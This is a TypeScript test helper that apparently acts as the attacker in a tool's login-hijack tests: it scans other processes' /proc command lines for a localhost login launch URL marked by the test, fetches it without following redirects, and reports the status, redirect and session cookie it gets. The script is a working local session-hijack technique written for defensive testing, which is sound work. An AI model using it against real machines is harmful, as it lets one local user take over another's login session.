// The attacker's side of the login-hijack tests: a separate process (run as another local user
// where the test can arrange it) that does what any local user can on a machine whose /proc is
// not mounted with hidepid: read other processes' command lines, find a lakekey launch URL in
// them, and use it. It prints one JSON line with what it got.
//   node hijacker.js steal MARK   find a launch URL on a command line that also shows MARK (so
//                                 parallel tests never steal each other's), GET it (no redirects)
//   node hijacker.js get URL      GET any URL (no redirects), e.g. to deliver a code
import { readdirSync, readFileSync } from 'node:fs';
import { isMain } from './is-main.js';

const LAUNCH = /http:\/\/127\.0\.0\.1:\d+\/login\/\w+/;

export interface Stolen {
  url: string;
  status: number;
  location: string | null;
  cookie: string | null;
  text: string;
}

/** The first lakekey launch URL on a command line showing `mark`, polling until `deadlineMs`. */
async function findLaunchUrl(mark: string, deadlineMs: number): Promise<string> {
  while (Date.now() < deadlineMs) {
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      let cmdline = '';
      try {
        cmdline = readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' ');
      } catch {
        continue; // the process ended
      }
      const m = LAUNCH.exec(cmdline);
      if (m && cmdline.includes(mark) && pid !== String(process.pid)) return m[0];
    }
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('no lakekey launch URL on any command line');
}

async function get(url: string): Promise<Stolen> {
  const res = await fetch(url, { redirect: 'manual', signal: AbortSignal.timeout(30_000) });
  return { url, status: res.status, location: res.headers.get('location'), cookie: res.headers.get('set-cookie'), text: (await res.text()).replace(/<[^>]+>/g, ' ') };
}


if (isMain(import.meta.url)) {
  const [mode, arg] = process.argv.slice(2);
  const work = mode === 'steal' ? findLaunchUrl(arg ?? '', Date.now() + 60_000).then(get) : get(arg ?? '');
  work.then(
    (r) => {
      process.stdout.write(`${JSON.stringify(r)}\n`);
      process.exit(0);
    },
    (err: unknown) => {
      process.stderr.write(`hijacker: ${err instanceof Error ? err.message : String(err)}\n`);
      process.exit(1);
    },
  );
}
